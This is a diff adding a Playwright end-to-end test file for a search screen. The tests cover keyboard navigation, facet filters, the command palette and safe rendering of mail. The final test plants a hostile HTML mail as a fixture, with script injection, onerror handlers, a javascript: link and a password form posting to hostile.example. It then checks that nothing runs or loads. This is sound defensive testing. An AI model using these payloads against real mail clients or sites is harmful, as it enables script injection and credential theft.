@@ -1,0 +1,168 @@
+import type { Page } from '@playwright/test';
+import { runSync } from '../packages/server/test-support/syncing.ts';
+import { Client } from '../packages/server/test-support/test-server.ts';
+import { type Datadeck, expect, test } from './support/journey.ts';
+import { expectSound } from './support/soundness.ts';
+
+test.use({ colorScheme: 'light' });
+
+const ADA = 'ada.nowak@sandbox.example';
+
+/** Signs in as Ada, with synchronised mails and pull requests, and opens a page. */
+async function openAsAda(page: Page, { url }: Datadeck, path: string): Promise<Client> {
+  const ada = await new Client({ url }).signIn(ADA);
+  await ada.connect('google', ADA);
+  await ada.connect('github', 'ada-nowak');
+  await runSync(ada, 'gmail-messages', { labelIds: 'INBOX' });
+  await runSync(ada, 'gh-pulls', { owner: 'ada-nowak', repo: 'dotfiles' });
+  await page.addInitScript((token) => {
+    if (location.protocol.startsWith('http')) localStorage.setItem('dd-authToken', JSON.stringify(token));
+  }, ada.token);
+  await page.goto(url + path);
+  return ada;
+}
+
+/** Delivers a mail to Ada's mailbox. */
+async function deliver({ url }: Datadeck, headers: string[], body: string): Promise<void> {
+  const date = `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`;
+  const response = await fetch(`${url}/sandbox/control/actions`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({
+      target: 'gmail.insertRaw',
+      arguments: [ADA, [...headers, date, '', body].join('\r\n')],
+    }),
+  });
+  expect(response.ok).toBe(true);
+}
+
+const box = (page: Page) => page.getByRole('combobox', { name: 'Search all records' });
+const results = (page: Page) => page.getByRole('list', { name: 'Results' });
+const link = (page: Page, position: number) => results(page).getByRole('link').nth(position);
+
+// @covers search-screen.keyboard search-screen.typing search-screen.completion search-screen.reading
+test('finds, completes and opens a record by keyboard alone, and goes back', async ({ page, datadeck }) => {
+  await openAsAda(page, datadeck, '/dashboard/integrations/providers');
+  await expect(page.getByRole('heading', { name: 'Providers', level: 1 })).toBeVisible();
+
+  await page.keyboard.press('/');
+  await expect(box(page)).toBeFocused();
+  await expect(page.getByText('Newest records')).toBeVisible();
+  await page.keyboard.type('harbor is:un');
+  await expect(page.getByRole('option', { name: 'unread' })).toBeVisible();
+  await expectSound(page);
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('Enter');
+  await expect(box(page)).toHaveValue('harbor is:unread ');
+  await expect(page).toHaveURL(/\?q=harbor\+is%3Aunread$/);
+  await expect(results(page).locator('mark').first()).toHaveText(/harbor/i);
+
+  await page.keyboard.press('ArrowDown');
+  await expect(link(page, 0)).toBeFocused();
+  await page.keyboard.press('j');
+  await expect(link(page, 1)).toBeFocused();
+  const title = (await link(page, 1).textContent()) ?? '';
+  await page.keyboard.press('Enter');
+  const reading = page.getByRole('dialog', { name: title });
+  await expect(reading.getByText('Ada Nowak <ada.nowak@sandbox.example>')).toBeVisible();
+  await expect(page).toHaveURL(/record=google/);
+  await expectSound(page, '[role="dialog"]');
+  await page.keyboard.press('Escape');
+  await expect(reading).toBeHidden();
+  await expect(link(page, 1)).toBeFocused();
+  await page.keyboard.press('Escape');
+  await expect(box(page)).toBeFocused();
+
+  await page.goBack();
+  await expect(box(page)).toHaveValue('');
+  await page.goForward();
+  await expect(box(page)).toHaveValue('harbor is:unread');
+  await expect(link(page, 1)).toHaveText(title);
+});
+
+// @covers search-screen.facets search-screen.problems search-screen.palette
+test('narrows by facets, explains problems, and is reached from the palette', async ({ page, datadeck }) => {
+  await openAsAda(page, datadeck, '/dashboard/data/search?q=update');
+  const filters = page.getByRole('complementary', { name: 'Filters' });
+  const github = filters.getByRole('button', { name: /^GitHub\b/ }).first();
+  const count = (await github.textContent())?.match(/\d+$/)?.[0] ?? '';
+  await github.click();
+  await expect(page).toHaveURL(/provider=github/);
+  await expect(github).toHaveAttribute('aria-pressed', 'true');
+  await expect(page.getByRole('heading', { name: new RegExp(`^${count} results?$`) })).toBeVisible();
+  await filters.getByRole('button', { name: /^ada-nowak/ }).click();
+  await expect(box(page)).toHaveValue('author:ada-nowak update');
+  await expectSound(page);
+  await page.goBack();
+  await page.goBack();
+  await expect(page).toHaveURL(/\?q=update$/);
+  await expect(github).toHaveAttribute('aria-pressed', 'false');
+
+  await box(page).fill('sender:amy update');
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('alert')).toContainText('There is no operator sender:.');
+  await expectSound(page);
+
+  await page.keyboard.press('Control+k');
+  await page.keyboard.insertText('bootstrap script');
+  const palette = page.getByRole('dialog', { name: 'Search and commands' });
+  await expect(palette.getByRole('option').first()).toHaveText('Search all records for “bootstrap script”');
+  await palette.getByRole('option', { name: /^Update the bootstrap script/ }).click();
+  await expect(page.getByRole('dialog', { name: 'Update the bootstrap script' })).toBeVisible();
+  await expect(page).toHaveURL(/q=bootstrap\+script&record=github/);
+});
+
+const HTML = `<html><head><style>p { display: none }</style><base href="http://hostile.example/">
+<meta http-equiv="refresh" content="0;url=http://hostile.example/refresh"></head>
+<body style="background: url(http://hostile.example/background.png)" onload="parent.document.title = 'owned'">
+<p style="color: rgb(200, 0, 0)">Your parcel has arrived.</p>
+<img src="http://hostile.example/pixel.png" alt="A parcel"><img src="x" onerror="parent.document.title = 'owned'">
+<script>parent.document.title = 'owned'; fetch('http://hostile.example/script')</script>
+<form action="http://hostile.example/form"><input name="password"><button>Send</button></form>
+<iframe src="http://hostile.example/frame"></iframe><link rel="stylesheet" href="http://hostile.example/style.css">
+<a href="https://example.org/track">Track</a> <a href="javascript:parent.document.title='owned'">Trap</a></body></html>`;
+
+for (const [device, viewport] of [
+  ['desktop', { width: 1440, height: 900 }],
+  ['phone', { width: 390, height: 844 }],
+] as const) {
+  // @covers search-screen.mail-html search-screen.reading
+  test(`shows a hostile mail as it is and runs and loads nothing of it, on a ${device}`, async ({
+    page,
+    datadeck,
+  }) => {
+    await page.setViewportSize(viewport);
+    await deliver(
+      datadeck,
+      [
+        'From: Shop <shop@hostile.example>',
+        'Subject: <img src=x onerror=alert(1)> Parcel',
+        'Content-Type: text/html; charset=utf-8',
+      ],
+      HTML,
+    );
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
+    await openAsAda(page, datadeck, '/dashboard/data/search?q=parcel+from%3Ahostile.example');
+    await expect(link(page, 0)).toHaveText('<img src=x onerror=alert(1)> Parcel');
+    expect(await results(page).locator('img').count()).toBe(0);
+    await expectSound(page);
+    await link(page, 0).click();
+    const reading = page.getByRole('dialog', { name: '<img src=x onerror=alert(1)> Parcel' });
+    await expect(reading.getByText('Your parcel has arrived.')).toBeVisible();
+
+    await reading.getByRole('switch', { name: 'Show formatted mail' }).click();
+    await expect(reading.getByText(/Remote content is blocked/)).toBeVisible();
+    const mail = page.frameLocator('iframe[title="Formatted mail"]');
+    const text = mail.getByText('Your parcel has arrived.');
+    await expect(text).toHaveCSS('color', 'rgb(200, 0, 0)');
+    await expect(mail.locator('body')).toContainText('[A parcel]');
+    expect(await mail.locator('script, form, input, button, iframe, link, base, img').count()).toBe(0);
+    await expect(mail.getByRole('link')).toHaveText('Track');
+    await expect(mail.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer');
+    await expectSound(page, '[role="dialog"]');
+    await page.waitForTimeout(500);
+    expect(await page.title()).toBe('Search · Datadeck');
+    expect(requests.filter((url) => !url.startsWith(datadeck.url) && !url.startsWith('data:'))).toEqual([]);
+  });
+}
